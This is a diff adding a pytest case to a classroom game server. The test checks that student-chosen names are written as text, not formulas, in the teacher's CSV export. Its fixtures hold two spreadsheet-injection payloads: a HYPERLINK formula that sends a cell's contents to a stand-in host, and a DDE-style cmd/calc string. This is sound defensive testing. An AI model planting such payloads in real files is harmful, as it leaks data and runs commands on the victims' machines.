@@ -17,7 +17,7 @@ import pytest
 import rooms_harness as R
 from brady_widgets.engine.registry import load_game
 from brady_widgets.rooms import cli
-from brady_widgets.rooms.export import ACTION_COLUMNS, SEAT_COLUMNS, TABLE_COLUMNS, histories
+from brady_widgets.rooms.export import ACTION_COLUMNS, FORMULA_STARTS, SEAT_COLUMNS, TABLE_COLUMNS, histories
 from test_rooms_web import request
 
 
@@ -159,5 +159,34 @@ def test_guessing_the_token_is_rate_limited(tmp_path):
     try:
         statuses = [export(server, f"guess-{i}-0123456789", server.url)[0] for i in range(5)]
         assert statuses[:3] == [403] * 3 and statuses[3:] == [429, 429]
+    finally:
+        server.stop()
+
+
+def test_a_students_name_never_reaches_the_teachers_spreadsheet_as_a_formula(tmp_path):
+    """A student chooses their name at join; the export puts it in every file the teacher opens
+    in a spreadsheet, which runs a cell that starts with = + - @ as a formula (a link that sends
+    the sheet's other cells away, or worse): each name is written as text."""
+    server = R.ThreadServer(tmp_path / "rooms.sqlite3", pace=0).start()
+    try:
+        t = R.teacher(server)
+        code = R.create(t, game="costume_party", players=3, seed=6, bots={"2": "random"})
+        typed = ['=HYPERLINK("http://x.example/"&A2,"ok")', "Bea;@SUM(1+1)*cmd|' /C calc'!A0"]
+        students = [R.join(server, code, name) for name in typed]
+        R.play_first(students[0])  # a step of the first student's, in actions.csv
+        status, _, body = export(server, R.TEACHER, server.url)
+        assert status == 200, body
+        with zipfile.ZipFile(io.BytesIO(body)) as z:
+            files = {n[:-4]: read(z.read(n).decode()) for n in z.namelist()}
+        cells = [r["name"] for f in ("seats", "actions", "forecasts") for r in files[f] if r["name"]]
+        cells += [part for r in files["tables"] for key in ("names", "winner_names") for part in r[key].split(";")]
+        assert any("HYPERLINK" in c for c in cells) and any("SUM" in c for c in cells)
+        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
+        # the name is still the one the student chose, shown as text (a quote before it)
+        seats = [r["name"] for r in files["seats"] if r["code"] == code]
+        assert seats[0] == "'" + typed[0] and seats[1] == "Bea;'@SUM(1+1)*cmd|' /C calc'!A0"
+        for s in students:
+            s.close()
+        t.close()
     finally:
         server.stop()
